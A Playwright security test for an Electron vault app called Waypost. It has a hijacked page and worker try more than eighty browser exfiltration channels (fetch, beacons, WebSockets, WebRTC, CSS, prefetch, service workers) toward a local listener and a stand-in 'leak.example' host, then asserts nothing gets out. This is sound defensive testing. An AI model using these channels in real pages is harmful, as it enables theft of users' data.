// A page that has been taken over tries every way out of a browser that we know of, and nothing arrives. Watched from three sides: a listener where all of them
// lead to, the kernel's own calls where strace may look, and the policy's complaints. Rules in test/security/README.md.
import type { Worker } from '@playwright/test'
import { type ChildProcess, spawn, spawnSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { readFileSync, readdirSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import path from 'node:path'
import { type Waypost, expect, makeProfile, test } from '../../electron.ts'

const PROVOKED = /content security policy|refused to|trusted ?type|err_|failed to (load|fetch)|not allowed|violates|uncaught|mixed content|websocket|manifest/i
const SETTLE_MS = 4_000

interface Listener {
  readonly port: number
  readonly heard: string[]
  close(): void
}

/** TCP and UDP on one port of this machine; whatever arrives is noted. */
async function listen(): Promise<Listener> {
  const heard: string[] = []
  const tcp = createServer(socket => {
    heard.push('tcp')
    socket.on('error', () => {})
    socket.end('HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\n\r\n')
  })
  await new Promise<void>(resolve => tcp.listen(0, '127.0.0.1', resolve))
  const { port } = tcp.address() as AddressInfo
  const udp = createSocket('udp4', () => heard.push('udp'))
  await new Promise<void>(resolve => udp.bind(port, '127.0.0.1', resolve))
  return {
    port, heard,
    close() {
      tcp.close()
      udp.close()
    },
  }
}

/** What a page has to get out by. Each is tried; how it fails is its own business. */
function leak(port: number): void {
  const at = (scheme: string, path: string): string => `${scheme}://127.0.0.1:${port}/${path}`
  const out = (name: string): readonly string[] => [at('http', name), at('https', name), `https://${name.replaceAll(/\W/g, '-')}.leak.example/${name}`]
  const attempt = (go: () => unknown): void => {
    try {
      void Promise.resolve(go()).catch(() => {})
    } catch {
      // Refused at once.
    }
  }
  const element = (tag: string, set: { readonly [name: string]: string }, parent: Element = document.body): void => attempt(() => {
    const made = document.createElement(tag)
    for (const [name, value] of Object.entries(set)) made.setAttribute(name, value)
    parent.append(made)
  })
  for (const to of out('fetch')) for (const init of [{}, { mode: 'no-cors' }, { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }] as RequestInit[]) attempt(() => fetch(to, init))
  for (const to of out('xhr')) attempt(() => {
    const request = new XMLHttpRequest()
    request.open('GET', to)
    request.send()
  })
  for (const scheme of ['ws', 'wss']) attempt(() => new WebSocket(at(scheme, 'socket')))
  attempt(() => new WebSocket('wss://socket.leak.example/'))
  attempt(() => new (globalThis as unknown as { WebSocketStream: new (url: string) => { opened: Promise<unknown> } }).WebSocketStream(at('ws', 'stream')).opened)
  attempt(() => new WebTransport(at('https', 'transport')).ready)
  for (const to of out('events')) attempt(() => new EventSource(to))
  for (const to of out('beacon')) attempt(() => navigator.sendBeacon(to, 'secret'))
  for (const to of out('image')) attempt(() => { new Image().src = to })
  for (const to of out('element')) {
    for (const tag of ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'source', 'track', 'input', 'frame']) element(tag, { src: to, type: 'image', autoplay: '' })
    element('object', { data: to })
    element('img', { srcset: `${to} 1x` })
    element('video', { poster: to })
    element('body', { background: to })
    for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'dns-prefetch', 'prerender', 'icon', 'apple-touch-icon', 'manifest', 'subresource', 'search', 'pingback', 'alternate stylesheet']) {
      element('link', { rel, href: to, as: 'script' }, document.head)
    }
    element('base', { href: to }, document.head)
    element('meta', { 'http-equiv': 'refresh', content: `0; url=${to}` }, document.head)
    element('meta', { 'http-equiv': 'content-security-policy', content: `default-src *; report-uri ${to}` }, document.head)
    attempt(() => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
      for (const tag of ['image', 'use', 'feImage', 'script']) {
        const part = document.createElementNS('http://www.w3.org/2000/svg', tag)
        part.setAttribute('href', to)
        svg.append(part)
      }
      document.body.append(svg)
    })
    for (const property of ['backgroundImage', 'listStyleImage', 'borderImageSource', 'maskImage', 'cursor', 'content', 'filter', 'clipPath'] as const) attempt(() => {
      const painted = document.createElement('div')
      painted.style[property] = `url(${to})`
      document.body.append(painted)
    })
    attempt(() => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`body { background: url(${to}) } @font-face { font-family: leak; src: url(${to}) } * { font-family: leak }`)
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    })
    attempt(() => {
      const face = new FontFace('leaked', `url(${to})`)
      document.fonts.add(face)
      return face.load()
    })
    element('style', {})
    attempt(() => document.querySelector('style:empty')?.append(`@import url(${to});`))
    attempt(() => {
      const rules = document.createElement('script')
      rules.setAttribute('type', 'speculationrules')
      rules.append(JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }], prerender: [{ source: 'list', urls: [to] }] }))
      document.head.append(rules)
    })
    attempt(() => {
      const form = document.createElement('form')
      form.action = to
      form.method = 'post'
      form.target = '_blank'
      document.body.append(form)
      form.submit()
    })
    attempt(() => {
      const link = document.createElement('a')
      link.href = to
      link.setAttribute('ping', to)
      link.setAttribute('attributionsrc', to)
      document.body.append(link)
      link.click()
      link.setAttribute('download', 'x')
      link.click()
    })
    attempt(() => window.open(to))
    attempt(() => { location.href = to })
    attempt(() => import(/* @vite-ignore */ to))
    attempt(() => new Worker(to))
    attempt(() => new Worker(URL.createObjectURL(new Blob([`importScripts('${to}');fetch('${to}')`]))))
    attempt(() => new SharedWorker(to))
    attempt(() => navigator.serviceWorker.register(to))
    attempt(() => navigator.serviceWorker.register('/assets/none.js'))
    attempt(async () => await new AudioContext().audioWorklet.addModule(to))
    attempt(async () => await (CSS as unknown as { readonly paintWorklet: { addModule(url: string): Promise<void> } }).paintWorklet.addModule(to))
    attempt(() => new PaymentRequest([{ supportedMethods: to }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show())
    attempt(() => (navigator.credentials as unknown as { get(options: unknown): Promise<unknown> }).get({ identity: { providers: [{ configURL: to, clientId: 'x' }] } }))
    attempt(async () => await (await caches.open('leak')).add(to))
    attempt(() => new Notification('x', { icon: to }))
    attempt(() => document.requestStorageAccess())
  }
  attempt(async () => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: [`stun:127.0.0.1:${port}`, 'stun:stun.leak.example:3478'] }, { urls: [`turn:127.0.0.1:${port}?transport=tcp`, `turn:127.0.0.1:${port}?transport=udp`], username: 'a', credential: 'b' }],
    })
    peer.createDataChannel('leak')
    await peer.setLocalDescription(await peer.createOffer())
    await peer.addIceCandidate({ candidate: `candidate:1 1 udp 2122260223 127.0.0.1 ${port} typ host`, sdpMid: '0', sdpMLineIndex: 0 })
  })
}

/** The same out of a worker, which has fewer ways. */
async function leakFromWorker(worker: Worker, port: number): Promise<void> {
  await worker.evaluate(to => {
    const attempt = (go: () => unknown): void => {
      try {
        void Promise.resolve(go()).catch(() => {})
      } catch {
        // Refused at once.
      }
    }
    const scope = globalThis as unknown as { importScripts(url: string): void }
    for (const scheme of ['http', 'https']) {
      attempt(() => fetch(`${scheme}://127.0.0.1:${to}/worker`, { mode: 'no-cors' }))
      attempt(() => import(`${scheme}://127.0.0.1:${to}/worker.js`))
      attempt(() => new EventSource(`${scheme}://127.0.0.1:${to}/worker`))
      attempt(() => scope.importScripts(`${scheme}://127.0.0.1:${to}/worker.js`))
      attempt(() => new Worker(`${scheme}://127.0.0.1:${to}/worker.js`))
      attempt(() => {
        const request = new XMLHttpRequest()
        request.open('GET', `${scheme}://127.0.0.1:${to}/worker`)
        request.send()
      })
    }
    attempt(() => new WebSocket(`ws://127.0.0.1:${to}/worker`))
    attempt(() => new WebTransport(`https://127.0.0.1:${to}/worker`).ready)
    attempt(() => fetch('https://worker.leak.example/'))
  }, port)
}

/** Calls of the kernel that lead out, of all processes of the application, while it runs. */
function watchCalls(pids: readonly number[], file: string): ChildProcess | undefined {
  if (process.platform !== 'linux' || process.getuid?.() !== 0 || spawnSync('strace', ['-V']).status !== 0) return undefined
  return spawn('strace', ['-f', '-qq', '-yy', '-o', file, '-e', 'trace=connect,sendto,sendmsg,sendmmsg', ...pids.flatMap(pid => ['-p', String(pid)])], { stdio: 'ignore' })
}

/**
 * To connect a UDP socket sends nothing: Chromium asks the kernel so by which of its own addresses it would go to a public one, before it makes a peer connection.
 * Everything else on a socket of the internet is a packet.
 */
const isPacket = (line: string): boolean => /\b(connect\(\d+<TCP|(sendto|sendmsg|sendmmsg)\(\d+<(TCP|UDP))/.test(line)

async function end(tracer: ChildProcess): Promise<void> {
  const gone = new Promise(resolve => tracer.once('exit', resolve))
  tracer.kill('SIGINT')
  await gone
}

async function familyOf(waypost: Waypost): Promise<readonly number[]> {
  const root = await waypost.app.evaluate(() => process.pid)
  const parents = readdirSync('/proc').filter(name => /^\d+$/.test(name)).flatMap(name => {
    try {
      return [[Number(name), Number(/^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${name}/status`, 'utf8'))?.[1])] as const]
    } catch {
      return []
    }
  })
  const family = [root]
  for (const member of family) family.push(...parents.filter(([, parent]) => parent === member).map(([pid]) => pid))
  return family
}

test('[HARD-6] a page and a worker that were taken over get nothing out, by any of more than eighty ways', async ({ launch }) => {
  test.setTimeout(120_000)
  const waypost = await launch({ args: ['--practice', '--practice-movements=500'] })
  const workspace = await waypost.mapDrawn()
  const listener = await listen()
  const trace = path.join(makeProfile(), 'calls.txt')
  const tracer = watchCalls(process.platform === 'linux' ? await familyOf(waypost) : [], trace)
  await new Promise(resolve => setTimeout(resolve, tracer === undefined ? 0 : 1_500))
  const workers = workspace.workers()
  expect(workers.length).toBeGreaterThan(0)
  for (const worker of workers) await leakFromWorker(worker, listener.port)
  await workspace.evaluate(leak, listener.port)
  await new Promise(resolve => setTimeout(resolve, SETTLE_MS))
  expect(listener.heard).toEqual([])
  expect(workspace.url()).toBe('app://waypost/')

  // The watchers see what there is to see: main itself goes there once.
  await waypost.app.evaluate(async (_electron, port) => { await fetch(`http://127.0.0.1:${port}/`).catch(() => {}) }, listener.port)
  await expect.poll(() => listener.heard.length).toBeGreaterThan(0)
  listener.close()
  if (tracer === undefined) console.log('egress: 0 connections at the listener; the kernel\'s calls were not watched (needs Linux, root and strace)')
  else {
    await end(tracer)
    const calls = readFileSync(trace, 'utf8').split('\n')
    const packets = calls.filter(isPacket)
    const own = packets.filter(line => line.includes(`:${listener.port}]`) || line.includes(`htons(${listener.port})`))
    expect(own.length).toBeGreaterThan(0)
    // Nothing of an open vault goes anywhere while it practises: the exchange is in process. What Playwright's debugger hears and says is on a socket that it opened.
    expect(packets.filter(line => !own.includes(line) && !/<TCP:\[127\.0\.0\.1:\d+->127\.0\.0\.1:\d+\]>/.test(line))).toEqual([])
    console.log(`egress: 0 connections at the listener, 0 packets of the kernel to any address among ${calls.length} calls that were watched`)
  }
  waypost.complaints.splice(0)
  waypost.forgive(PROVOKED)
})
